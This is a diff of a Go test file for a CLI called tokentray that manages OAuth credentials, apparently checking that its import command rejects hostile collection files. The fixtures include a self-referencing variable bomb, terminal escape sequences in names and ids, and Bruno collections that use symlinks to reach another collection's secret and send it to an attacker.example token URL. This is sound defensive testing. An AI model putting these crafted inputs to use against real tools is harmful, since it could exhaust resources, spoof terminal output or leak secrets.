@@ -1,255 +1,152 @@
 package main
 
-// Hostile import files and token URLs through the real binary and the real
-// keyring: a secret carried in the token URL's query (or its user info)
-// never reaches a listing, an export or an error, and a file's text never
-// reaches the terminal with its control characters.
+// Hostile collections through `tokentray import --from … --dry-run`, the
+// real binary: variable bombs, Insomnia exports whose ids repeat, and Bruno
+// collections that reach other files through symbolic links. Each must end
+// with a short, printable answer, and no secret read from elsewhere may
+// show up as a usable row.
 
 import (
 	"encoding/json"
+	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
 )
 
-// writePostman writes a Postman v2.0 collection whose collection-level
-// OAuth 2.0 settings are auth, with one request per entry of items (each
-// a name and its own oauth2 settings).
-func writePostman(t *testing.T, name string, auth map[string]any, items ...map[string]any) string {
+func writeTestFile(t *testing.T, path, content string) {
 	t.Helper()
-	coll := map[string]any{
-		"info": map[string]any{"name": name, "schema": "https://schema.getpostman.com/json/collection/v2.0.0/collection.json"},
-	}
-	if auth != nil {
-		coll["auth"] = map[string]any{"type": "oauth2", "oauth2": auth}
-	}
-	var list []any
-	for _, it := range items {
-		list = append(list, map[string]any{"name": it["name"], "request": map[string]any{"method": "GET", "url": "https://api.example.com/x",
-			"auth": map[string]any{"type": "oauth2", "oauth2": it["oauth2"]}}})
-	}
-	coll["item"] = list
-	b, err := json.Marshal(coll)
-	if err != nil {
+	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
 		t.Fatal(err)
 	}
-	path := filepath.Join(t.TempDir(), "collection.json")
-	if err := os.WriteFile(path, b, 0o600); err != nil {
+	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
 		t.Fatal(err)
 	}
-	return path
 }
 
-func sendAs(key, value, where string) map[string]any {
-	return map[string]any{"key": key, "value": value, "enabled": true, "send_as": where}
+func jsonString(s string) string {
+	b, _ := json.Marshal(s)
+	return string(b)
 }
 
-// TestImportQuerySecretsNeverShown: a Postman collection that sends the
-// client secret (and an API key) in the token URL's query must not put
-// them in the import table, the keyring's profile, `list`, or `export`
-// without --with-secrets.
-func TestImportQuerySecretsNeverShown(t *testing.T) {
-	requireSession(t, "secret-tool")
+func TestHostileImportsCLI(t *testing.T) {
+	requireSession(t)
 	u := newCLIUser(t)
 	u.extra = []string{"LC_ALL=en_US.UTF-8"}
-	querySecret := "query-secret-" + randomHex(8)
-	headerSecret := "header-secret-" + randomHex(8)
-	apiKey := "api-key-" + randomHex(8)
-	secrets := []string{querySecret, headerSecret, apiKey}
-	path := writePostman(t, "Leaky", nil,
-		map[string]any{"name": "in query", "oauth2": map[string]any{
-			"grant_type": "client_credentials", "accessTokenUrl": "https://auth.example.com/token?tenant=acme",
-			"clientId": "leaky-client", "clientSecret": "the-real-secret-" + randomHex(4),
-			"tokenRequestParams": []any{sendAs("client_secret", querySecret, "request_url"), sendAs("client_secret", headerSecret, "request_header")},
-		}},
-		map[string]any{"name": "api key in query", "oauth2": map[string]any{
-			"grant_type": "client_credentials", "accessTokenUrl": "https://auth.example.com/token",
-			"clientId": "key-client", "clientSecret": "another-secret-" + randomHex(4),
-			"tokenRequestParams": []any{sendAs("api_key", apiKey, "request_url")},
-		}},
-	)
-	check := func(what, out string) {
+	dir := t.TempDir()
+	// dryRun runs the import preview; its output must stay small whatever
+	// the file asks for.
+	dryRun := func(t *testing.T, args ...string) (int, string, string) {
 		t.Helper()
-		for _, s := range secrets {
-			if strings.Contains(out, s) {
-				t.Errorf("%s shows a secret of the token URL's query (%s):\n%s", what, s, out)
+		u := &cliUser{t: t, bin: u.bin, home: u.home, tmp: u.tmp, service: u.service, extra: u.extra}
+		code, out, errs := u.run("", append(append([]string{"import"}, args...), "--dry-run")...)
+		if len(out)+len(errs) > 16<<10 {
+			t.Fatalf("exit %d, %d bytes of output:\n%.2000s", code, len(out)+len(errs), out+errs)
+		}
+		return code, out, errs
+	}
+
+	t.Run("a Postman variable that refers to itself", func(t *testing.T) {
+		// The probe of issue 17 had 6 references (812 MiB); 5 keep a
+		// failing binary within about 100 MiB.
+		path := filepath.Join(dir, "bomb.postman_collection.json")
+		writeTestFile(t, path, `{"info":{"name":"Bomb","schema":"https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},`+
+			`"variable":[{"key":"a","value":"`+strings.Repeat("{{a}}", 5)+`"}],"item":[{"name":"r","request":{"url":"https://x","auth":{"type":"oauth2",`+
+			`"oauth2":[{"key":"grant_type","value":"client_credentials"},{"key":"accessTokenUrl","value":"https://auth.example.com/{{a}}"},`+
+			`{"key":"clientId","value":"{{a}}"},{"key":"clientSecret","value":"s"}]}}}]}`)
+		code, out, errs := dryRun(t, "--from", "postman", path)
+		if code != 0 || strings.Count(out, "refers to itself") != 2 || !strings.Contains(out, "not importable: token URL: variable {{a}} refers to itself") {
+			t.Fatalf("exit %d\n%s%s", code, out, errs)
+		}
+	})
+
+	t.Run("an Insomnia export whose groups share an id", func(t *testing.T) {
+		// Two groups per level with one _id: the walk doubled per level.
+		res := []string{`{"_id":"wrk","_type":"workspace","name":"Dup"}`}
+		parent := "wrk"
+		for level := range 14 {
+			id := fmt.Sprintf("fld_%d\x1b[2J", level)
+			for range 2 {
+				res = append(res, fmt.Sprintf(`{"_id":%s,"_type":"request_group","parentId":%s,"name":"g"}`, jsonString(id), jsonString(parent)))
+			}
+			parent = id
+		}
+		res = append(res, fmt.Sprintf(`{"_id":"req","_type":"request","parentId":%s,"name":"r","authentication":{"type":"oauth2",`+
+			`"grantType":"client_credentials","accessTokenUrl":"https://auth.example.com/token","clientId":"c","clientSecret":"s"}}`, jsonString(parent)))
+		path := filepath.Join(dir, "dup.json")
+		writeTestFile(t, path, `{"_type":"export","__export_format":4,"resources":[`+strings.Join(res, ",")+`]}`)
+		code, out, errs := dryRun(t, "--from", "insomnia", path)
+		if code != 1 || out != "" || !strings.Contains(errs, `_id "fld_0" is used by more than one resource`) || strings.Contains(errs, "\x1b") {
+			t.Fatalf("exit %d\n%q\n%q", code, out, errs)
+		}
+	})
+
+	t.Run("Bruno files reached through symbolic links", func(t *testing.T) {
+		// Another collection on the same machine, with a real secret.
+		victim := filepath.Join(dir, "victim")
+		writeTestFile(t, filepath.Join(victim, "bruno.json"), `{"name":"Victim"}`)
+		writeTestFile(t, filepath.Join(victim, "collection.bru"), "auth {\n  mode: oauth2\n}\n\nauth:oauth2 {\n  grant_type: client_credentials\n"+
+			"  access_token_url: https://auth.victim.example/token\n  client_id: victim\n  client_secret: {{client_secret}}\n}\n")
+		writeTestFile(t, filepath.Join(victim, "environments", "Prod.bru"), "vars {\n  client_secret: victim-s3cret-value\n}\n")
+		// The attacker's collection sends whatever secret it finds to its own URL.
+		attacker := func(t *testing.T) string {
+			root := filepath.Join(t.TempDir(), "shared-collection")
+			writeTestFile(t, filepath.Join(root, "bruno.json"), `{"name":"Shared"}`)
+			writeTestFile(t, filepath.Join(root, "collection.bru"), "auth {\n  mode: oauth2\n}\n\nauth:oauth2 {\n  grant_type: client_credentials\n"+
+				"  access_token_url: https://attacker.example/token\n  client_id: victim\n  client_secret: {{client_secret}}\n}\n")
+			return root
+		}
+		link := func(t *testing.T, target, name string) {
+			t.Helper()
+			os.MkdirAll(filepath.Dir(name), 0o700)
+			if err := os.Symlink(target, name); err != nil {
+				t.Fatal(err)
 			}
 		}
-	}
-
-	_, out, errs := u.run("", "import", "--from", "postman", path, "--dry-run")
-	check("the import table", out+errs)
-	if !strings.Contains(out, "api_key") {
-		t.Errorf("the table does not say why the api_key profile is refused:\n%s", out)
-	}
-	code, out, errs := u.run("", "import", "--from", "postman", path)
-	check("the import", out+errs)
-	if code == 0 {
-		t.Errorf("a token URL with an API key in its query was imported:\n%s%s", out, errs)
-	}
-	out = u.mustRun("", "list")
-	check("list", out)
-	if !strings.Contains(out, "Leaky - in query") || !strings.Contains(out, "auth.example.com/token") {
-		t.Errorf("list lacks the imported profile:\n%s", out)
-	}
-	check("list --json", u.mustRun("", "list", "--json"))
-	check("export", u.mustRun("", "export"))
-	check("the keyring", u.keyringItems())
-}
-
-// TestTokenURLSecretsRefused: add and edit refuse a token URL whose query
-// names a reserved or secret-looking parameter, or which holds user
-// credentials, and a header named like a reserved parameter; the refusal
-// does not repeat the value.
-func TestTokenURLSecretsRefused(t *testing.T) {
-	requireSession(t, "secret-tool")
-	u := newCLIUser(t)
-	u.extra = []string{"LC_ALL=en_US.UTF-8"}
-	value := "v4lue-" + randomHex(8)
-	for _, c := range []struct {
-		name string
-		args []string
-		want string
-	}{
-		{"client_secret in the query", []string{"--token-url", "https://auth.example.com/token?client_secret=" + value}, "client_secret"},
-		{"api key in the query", []string{"--token-url", "https://auth.example.com/token?x=1&Api-Key=" + value}, "Api-Key"},
-		{"access_token in the query", []string{"--token-url", "https://auth.example.com/token?access_token=" + value}, "access_token"},
-		{"user info", []string{"--token-url", "https://user:" + value + "@auth.example.com/token"}, "credentials"},
-		{"issuer with a secret", []string{"--issuer", "https://auth.example.com/?password=" + value}, "password"},
-		{"reserved header", []string{"--token-url", "https://auth.example.com/token", "--header", "client_secret: " + value}, "client_secret"},
-		{"reserved param", []string{"--token-url", "https://auth.example.com/token", "--param", "client_assertion=" + value}, "client_assertion"},
-	} {
-		t.Run(c.name, func(t *testing.T) {
-			u := &cliUser{t: t, bin: u.bin, home: u.home, tmp: u.tmp, service: u.service, extra: u.extra}
-			args := append([]string{"add", "refused", "--client-id", "c"}, c.args...)
-			code, out, errs := u.run("s3cret-s3cret", args...)
-			if code == 0 {
-				u.run("", "rm", "refused")
-				t.Fatalf("accepted: %s%s", out, errs)
-			}
-			if !strings.Contains(errs, c.want) {
-				t.Errorf("the refusal does not name %q: %s", c.want, errs)
-			}
-			if strings.Contains(out+errs, value) {
-				t.Errorf("the refusal repeats the value: %s%s", out, errs)
-			}
-		})
-	}
-	// A query without secrets is fine, and shown with its values masked.
-	u.mustRun("s3cret-s3cret", "add", "plain", "--client-id", "c", "--token-url", "https://auth.example.com/token?tenant="+value)
-	t.Cleanup(func() { u.run("", "rm", "plain") })
-	if out := u.mustRun("", "list"); strings.Contains(out, value) || !strings.Contains(out, "tenant=") {
-		t.Errorf("list shows the query's value or not its name:\n%s", out)
-	}
-	code, out, errs := u.run("", "edit", "plain", "--token-url", "https://auth.example.com/token?client_secret="+value)
-	if code == 0 || strings.Contains(out+errs, value) {
-		t.Errorf("edit: exit %d\n%s%s", code, out, errs)
-	}
-}
-
-// TestImportTableIsPrintable: every cell and every problem of the import
-// table is made printable, so a crafted file cannot move the cursor, erase
-// a line or set the window title to fake a row.
-func TestImportTableIsPrintable(t *testing.T) {
-	requireSession(t, "secret-tool")
-	u := newCLIUser(t)
-	u.extra = []string{"LC_ALL=en_US.UTF-8"}
-	const esc = "\x1b[1A\r\x1b[2K\x1b]0;title\x07\u202e"
-	path := writePostman(t, "Coll"+esc, map[string]any{
-		"grant_type": "client_credentials", "accessTokenUrl": "https://auth.example.com/token",
-		"clientId": "id" + esc + "fake", "clientSecret": "a-secret-value", "scope": "read" + esc,
-		"tokenName": "tok" + esc,
-	},
-		map[string]any{"name": "bad url" + esc, "oauth2": map[string]any{
-			"grant_type": "client_credentials", "accessTokenUrl": "https://auth.example.com/t" + esc,
-			"clientId": "c" + esc, "clientSecret": "x",
-		}},
-		map[string]any{"name": "missing var" + esc, "oauth2": map[string]any{
-			"grant_type": "client_credentials", "accessTokenUrl": "https://auth.example.com/token",
-			"clientId": "{{id" + esc + "}}", "clientSecret": "x",
-		}},
-		map[string]any{"name": "grant" + esc, "oauth2": map[string]any{"grant_type": "implicit" + esc}},
-	)
-	for _, args := range [][]string{
-		{"import", "--from", "postman", path, "--dry-run"},
-		{"import", "--from", "postman", path},
-		{"list"},
-		{"list", "--json"},
-	} {
-		_, out, errs := u.run("", args...)
-		if strings.ContainsAny(out+errs, "\x1b\r\x07\u202e") {
-			t.Errorf("tokentray %s writes control characters:\n%q\n%q", strings.Join(args, " "), out, errs)
+		for _, c := range []struct {
+			name  string
+			setup func(t *testing.T, root string)
+			env   string
+			want  string
+		}{
+			{"environment file linked to another collection's", func(t *testing.T, root string) {
+				link(t, filepath.Join(victim, "environments", "Prod.bru"), filepath.Join(root, "environments", "Dev.bru"))
+			}, "", "environments/Dev.bru is a symbolic link"},
+			{"environment chosen by name, linked", func(t *testing.T, root string) {
+				link(t, filepath.Join(victim, "environments", "Prod.bru"), filepath.Join(root, "environments", "Prod.bru"))
+			}, "Prod", "environments/Prod.bru is a symbolic link"},
+			{"environments folder linked", func(t *testing.T, root string) {
+				link(t, filepath.Join(victim, "environments"), filepath.Join(root, "environments"))
+			}, "", "environments is a symbolic link"},
+			{"environment linked inside the collection", func(t *testing.T, root string) {
+				writeTestFile(t, filepath.Join(root, "notes", "Prod.env"), "vars {\n  client_secret: in-root-s3cret\n}\n")
+				link(t, "../notes/Prod.env", filepath.Join(root, "environments", "Dev.bru"))
+			}, "", "environments/Dev.bru is a symbolic link"},
+			{"collection.bru linked", func(t *testing.T, root string) {
+				os.Remove(filepath.Join(root, "collection.bru"))
+				link(t, filepath.Join(victim, "collection.bru"), filepath.Join(root, "collection.bru"))
+			}, "", "collection.bru is a symbolic link"},
+			{"bruno.json linked", func(t *testing.T, root string) {
+				os.Remove(filepath.Join(root, "bruno.json"))
+				link(t, filepath.Join(victim, "bruno.json"), filepath.Join(root, "bruno.json"))
+			}, "", "bruno.json is a symbolic link"},
+			{"a request linked", func(t *testing.T, root string) {
+				link(t, filepath.Join(victim, "collection.bru"), filepath.Join(root, "Orders", "List.bru"))
+			}, "", "Orders/List.bru is a symbolic link"},
+		} {
+			t.Run(c.name, func(t *testing.T) {
+				root := attacker(t)
+				c.setup(t, root)
+				args := []string{"--from", "bruno", root}
+				if c.env != "" {
+					args = append(args, "--env", c.env)
+				}
+				code, out, errs := dryRun(t, args...)
+				if code != 1 || out != "" || !strings.Contains(errs, c.want) || !strings.Contains(errs, "Tokentray reads only regular files inside the collection") {
+					t.Fatalf("exit %d\nstdout %q\nstderr %q", code, out, errs)
+				}
+			})
 		}
-		if !strings.Contains(out, "fake") && args[0] == "import" {
-			t.Errorf("the table lacks the client ID:\n%s", out)
-		}
-		// Sequences go whole: no "[2K" left to fake a name with.
-		if strings.Contains(out+errs, "[2K") || strings.Contains(out+errs, "0;title") {
-			t.Errorf("tokentray %s writes the rest of an escape sequence:\n%s%s", strings.Join(args, " "), out, errs)
-		}
-	}
-}
-
-// TestErrorLinesArePrintable: an error that quotes a file's text (here
-// the environment names of an Insomnia export) reaches stderr without its
-// control characters.
-func TestErrorLinesArePrintable(t *testing.T) {
-	requireSession(t, "secret-tool")
-	u := newCLIUser(t)
-	u.extra = []string{"LC_ALL=en_US.UTF-8"}
-	const esc = "\x1b[1A\r\x1b[2K\x1b]0;title\x07\u202e"
-	b, _ := json.Marshal(map[string]any{"_type": "export", "__export_format": 4, "resources": []any{
-		map[string]any{"_id": "wrk_1", "_type": "workspace", "name": "W"},
-		map[string]any{"_id": "env_base", "_type": "environment", "parentId": "wrk_1", "name": "Base", "data": map[string]any{}},
-		map[string]any{"_id": "env_a", "_type": "environment", "parentId": "env_base", "name": "Dev" + esc, "data": map[string]any{}},
-		map[string]any{"_id": "env_b", "_type": "environment", "parentId": "env_base", "name": "Prod" + esc, "data": map[string]any{}},
-	}})
-	path := filepath.Join(t.TempDir(), "insomnia.json")
-	if err := os.WriteFile(path, b, 0o600); err != nil {
-		t.Fatal(err)
-	}
-	code, out, errs := u.run("", "import", "--from", "insomnia", path, "--env", "nosuch", "--dry-run")
-	if code == 0 || !strings.Contains(errs, "Prod") {
-		t.Fatalf("exit %d, want the refusal listing the environments:\n%s%s", code, out, errs)
-	}
-	if strings.ContainsAny(out+errs, "\x1b\r\x07\u202e") {
-		t.Errorf("the error writes control characters: %q", errs)
-	}
-}
-
-// TestExportWithoutSecretsDropsSecretHeaders: the values of headers and
-// parameters named like credentials are secrets: an export without
-// --with-secrets leaves them out, and importing it back keeps the stored
-// ones (same client), as for the client secret.
-func TestExportWithoutSecretsDropsSecretHeaders(t *testing.T) {
-	requireSession(t, "secret-tool")
-	u := newCLIUser(t)
-	u.extra = []string{"LC_ALL=en_US.UTF-8"}
-	key, param := "hdr-key-"+randomHex(8), "param-key-"+randomHex(8)
-	u.mustRun("s3cret-s3cret", "add", "keyed", "--client-id", "c", "--token-url", "https://auth.example.com/token",
-		"--header", "X-Api-Key: "+key, "--header", "X-Trace: visible", "--param", "api_key="+param, "--param", "tenant=acme")
-	export := u.mustRun("", "export")
-	if strings.Contains(export, key) || strings.Contains(export, param) {
-		t.Fatalf("export without --with-secrets holds a secret header or parameter:\n%s", export)
-	}
-	if !strings.Contains(export, "visible") || !strings.Contains(export, "acme") {
-		t.Fatalf("export lost ordinary headers or parameters:\n%s", export)
-	}
-	path := filepath.Join(t.TempDir(), "export.json")
-	if err := os.WriteFile(path, []byte(export), 0o600); err != nil {
-		t.Fatal(err)
-	}
-	u.mustRun("", "import", path)
-	if all := u.mustRun("", "export", "--with-secrets"); !strings.Contains(all, key) || !strings.Contains(all, param) {
-		t.Fatalf("the re-import lost the stored header or parameter:\n%s", all)
-	}
-	// Another client gets neither the stored key nor an empty header.
-	other := strings.ReplaceAll(export, "https://auth.example.com/token", "https://evil.example.com/token")
-	if err := os.WriteFile(path, []byte(other), 0o600); err != nil {
-		t.Fatal(err)
-	}
-	if code, out, errs := u.run("", "import", path); code == 0 {
-		t.Fatalf("another client's import was accepted:\n%s%s", out, errs)
-	}
+	})
 }
